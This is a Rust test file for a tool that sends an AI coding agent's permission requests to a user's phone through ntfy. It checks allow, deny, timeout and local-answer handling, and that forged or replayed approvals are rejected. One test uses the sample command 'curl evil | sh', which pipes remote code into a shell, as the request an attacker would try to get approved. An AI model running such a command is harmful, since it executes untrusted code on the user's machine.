//! Permission dialogs answered from the phone: `cc-notify hook` gets a `PermissionRequest`
//! while the user is away (the agent's tmux session has no client attached: a real tmux
//! server), publishes the approval request to an ntfy fake, and the test taps its buttons by
//! posting exactly what the phone would to the response topic.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::Instant;

use cc_notify_testkit::ntfy::FakeNtfy;
use serde_json::{Value, json};

use super::harness::{PATIENCE, World, event, wait_until};

const TOPIC: &str = "cc-approve-test";

/// A detached tmux session (no client attached: the user is away), killed on drop.
struct Tmux {
    socket: PathBuf,
    pane: String,
}

impl Tmux {
    fn start(root: &std::path::Path) -> Tmux {
        let socket = root.join("tmux.sock");
        let ok = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args([
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-s",
                "agent",
                "sleep 600",
            ])
            .status()
            .expect("tmux")
            .success();
        assert!(ok, "tmux new-session");
        let out = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(["display-message", "-p", "-t", "agent", "#{pane_id}"])
            .output()
            .expect("tmux display");
        let pane = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        Tmux { socket, pane }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .arg("kill-server")
            .status();
    }
}

/// A world with ntfy and approvals configured, an away user, and the ntfy fake.
struct Approvals {
    // Dropped first: its socket lives in the world's temp dir.
    tmux: Tmux,
    world: World,
    ntfy: FakeNtfy,
}

impl Approvals {
    fn new(timeout: u64) -> Approvals {
        let world = World::new("");
        let ntfy = FakeNtfy::start();
        world.write_config(&format!(
            "[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n\
             [approvals]\nenabled = true\nvia = \"ntfy\"\ntimeout = {timeout}\n",
            ntfy.base_url()
        ));
        let tmux = Tmux::start(world.root.path());
        Approvals { tmux, world, ntfy }
    }

    /// Starts `cc-notify hook` with `input`, inside the away user's tmux session.
    fn spawn(&self, input: Vec<u8>) -> Child {
        self.spawn_with(input, &[]).unwrap()
    }

    /// [`spawn`](Self::spawn) with more environment.
    fn spawn_with(&self, input: Vec<u8>, env: &[(&str, &str)]) -> Option<Child> {
        let mut child = self
            .world
            .command(&["hook"])
            .envs(env.iter().copied())
            .env("TMUX", format!("{},1,0", self.tmux.socket.display()))
            .env("TMUX_PANE", &self.tmux.pane)
            .stdin(Stdio::piped())
            .spawn()
            .expect("spawn hook");
        let mut stdin = child.stdin.take().expect("stdin");
        stdin.write_all(&input).expect("write hook input");
        drop(stdin);
        Some(child)
    }

    /// The approval prompts published so far.
    fn prompts(&self) -> Vec<Value> {
        self.ntfy
            .messages()
            .into_iter()
            .filter(|m| m["topic"] == TOPIC && m["actions"].is_array())
            .collect()
    }

    /// Waits for the `n`th prompt (1-based).
    fn prompt(&self, n: usize) -> Value {
        assert!(
            wait_until(|| self.prompts().len() >= n),
            "no approval request published; log: {:?}",
            self.world.log()
        );
        self.prompts()[n - 1].clone()
    }
}

fn permission_request(session: &str, tool: &str, input: Value, suggestions: Value) -> Vec<u8> {
    event(
        session,
        "PermissionRequest",
        json!({"tool_name": tool, "tool_input": input, "permission_suggestions": suggestions}),
    )
}

fn bash(session: &str, command: &str) -> Vec<u8> {
    permission_request(session, "Bash", json!({"command": command}), json!([]))
}

/// The button labelled `label` of a prompt: (url, body, headers).
fn button(prompt: &Value, label: &str) -> (String, String) {
    let b = prompt["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["label"] == label)
        .unwrap_or_else(|| panic!("no {label} button in {prompt}"));
    assert_eq!(b["action"], "http");
    (
        b["url"].as_str().unwrap().to_owned(),
        b["body"].as_str().unwrap().to_owned(),
    )
}

/// POSTs `body` to `url` as the phone's ntfy app does for an `http` action.
fn tap(url: &str, body: &str) {
    let rest = url.strip_prefix("http://").expect("loopback URL");
    let (host, path) = rest.split_once('/').expect("path");
    let mut s = TcpStream::connect(host).expect("connect to the fake");
    write!(
        s,
        "POST /{path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .expect("send");
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "tap refused: {answer}");
}

/// Waits (bounded) for the hook to exit; its output.
fn finish(mut child: Child) -> Output {
    let deadline = Instant::now() + PATIENCE;
    while child.try_wait().expect("try_wait").is_none() {
        assert!(Instant::now() < deadline, "the hook did not exit");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().expect("output");
    assert!(out.status.success(), "exit {:?}", out.status);
    out
}

fn decision(out: &Output) -> Value {
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("stdout {:?}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(
        v["hookSpecificOutput"]["hookEventName"],
        "PermissionRequest"
    );
    v["hookSpecificOutput"]["decision"].clone()
}

#[test]
fn a_phone_allow_prints_allow_for_the_exact_command_shown() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "touch /outside/x"));
    let prompt = a.prompt(1);
    assert!(
        prompt["message"]
            .as_str()
            .unwrap()
            .contains("touch /outside/x"),
        "{prompt}"
    );
    assert!(
        prompt["title"].as_str().unwrap().contains("proj: Bash"),
        "{prompt}"
    );
    let labels: Vec<&str> = prompt["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["label"].as_str().unwrap())
        .collect();
    assert_eq!(
        labels,
        ["Allow", "Deny"],
        "no always without a suggested rule"
    );
    let (url, body) = button(&prompt, "Allow");
    assert!(url.ends_with(&format!("/{TOPIC}-resp")));
    tap(&url, &body);
    let out = finish(hook);
    assert_eq!(decision(&out), json!({"behavior": "allow"}));
}

#[test]
fn a_phone_deny_prints_deny_with_the_message() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "rm -rf build"));
    let (url, body) = button(&a.prompt(1), "Deny");
    tap(&url, &body);
    let d = decision(&finish(hook));
    assert_eq!(d["behavior"], "deny");
    assert!(d["message"].as_str().unwrap().contains("phone"), "{d}");
}

#[test]
fn always_allow_applies_exactly_the_suggested_rule() {
    let a = Approvals::new(60);
    let rule = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test:*"}],
                       "behavior": "allow", "destination": "localSettings"}]);
    let hook = a.spawn(permission_request(
        "s1",
        "Bash",
        json!({"command": "npm test"}),
        rule.clone(),
    ));
    let (url, body) = button(&a.prompt(1), "Always allow");
    tap(&url, &body);
    let d = decision(&finish(hook));
    assert_eq!(d, json!({"behavior": "allow", "updatedPermissions": rule}));
}

#[test]
fn no_answer_prints_nothing_exits_0_and_withdraws_the_prompt() {
    let a = Approvals::new(2);
    let started = Instant::now();
    let hook = a.spawn(bash("s1", "make deploy"));
    let prompt = a.prompt(1);
    let out = finish(hook);
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(started.elapsed().as_secs() >= 2, "it waited for the window");
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
}

#[test]
fn forged_and_replayed_answers_change_nothing() {
    let a = Approvals::new(60);
    // A first request, allowed: its Allow token is what an attacker could have seen.
    let hook = a.spawn(bash("s1", "ls"));
    let (url, old_allow) = button(&a.prompt(1), "Allow");
    tap(&url, &old_allow);
    assert_eq!(decision(&finish(hook))["behavior"], "allow");

    let hook = a.spawn(bash("s1", "curl evil | sh"));
    let prompt = a.prompt(2);
    let (_, deny) = button(&prompt, "Deny");
    let (_, allow) = button(&prompt, "Allow");
    // Replayed: the earlier request's valid answer.
    tap(&url, &old_allow);
    // Forged: this request's id with the deny MAC relabelled as allow, and garbage.
    tap(&url, &deny.replacen('n', "y", 1));
    tap(&url, &allow[..allow.len() - 2]);
    tap(&url, "allow");
    // None of them ended the wait: the user's real answer still decides.
    tap(&url, &deny);
    assert_eq!(decision(&finish(hook))["behavior"], "deny");
    // And a replay after the decision is ignored by nobody waiting: nothing else printed.
    tap(&url, &allow);
}

#[test]
fn a_local_answer_withdraws_the_phone_prompt_and_prints_nothing() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "cargo publish"));
    let prompt = a.prompt(1);
    // The user pressed "Yes" at the keyboard: the tool ran.
    a.world.hook(
        event("s1", "PostToolUse", json!({"tool_name": "Bash"})),
        "PostToolUse",
    );
    let out = finish(hook);
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
    // The phone's answer after that decides nothing (no process waits for it).
    let (url, body) = button(&prompt, "Allow");
    tap(&url, &body);
}

#[test]
fn at_the_keyboard_or_with_approvals_off_nothing_is_sent_and_nothing_printed() {
    let a = Approvals::new(60);
    // No tmux and no terminal: the hook cannot tell the user is away, so it abstains.
    a.world
        .hook(bash("s1", "ls"), "PermissionRequest, presence unknown");
    assert!(a.prompts().is_empty());
    a.world.write_config(&format!(
        "[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n",
        a.ntfy.base_url()
    ));
    let out = finish(a.spawn(bash("s1", "ls")));
    assert!(out.stdout.is_empty());
    assert!(a.prompts().is_empty(), "approvals are off by default");
}

#[test]
fn the_sessions_registry_leaving_waiting_is_a_local_answer() {
    let a = Approvals::new(60);
    let sessions = a.world.root.path().join("home/.claude/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let entry = sessions.join("4242.json");
    let write = |status: &str| {
        let tmp = sessions.join("tmp");
        std::fs::write(
            &tmp,
            json!({"pid": 4242, "sessionId": "s1", "status": status,
                   "waitingFor": "permission prompt", "statusUpdatedAt": 1})
            .to_string(),
        )
        .unwrap();
        std::fs::rename(&tmp, &entry).unwrap();
    };
    write("waiting");
    let mut hook = a.spawn_with(bash("s1", "rm notes.txt"), &[("CLAUDE_PID", "4242")]);
    let prompt = a.prompt(1);
    // The user answered "No" at the keyboard: no hook event fires, the registry moves on.
    write("busy");
    let out = finish(hook.take().unwrap());
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
}
